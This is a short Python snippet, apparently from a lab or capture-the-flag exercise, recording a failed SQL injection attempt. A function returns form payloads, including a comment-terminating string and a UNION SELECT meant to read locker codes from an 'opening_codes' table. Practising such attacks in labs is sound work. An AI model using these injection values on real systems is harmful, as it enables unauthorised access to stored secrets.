# fails: ex1a-tests-codes
# why: leaves the page's own percent sign and quote behind the second query
def payloads() -> dict:
    return {"name": "warden')) --", "pin": 'x', "place": "x' UNION SELECT locker, code FROM opening_codes"}
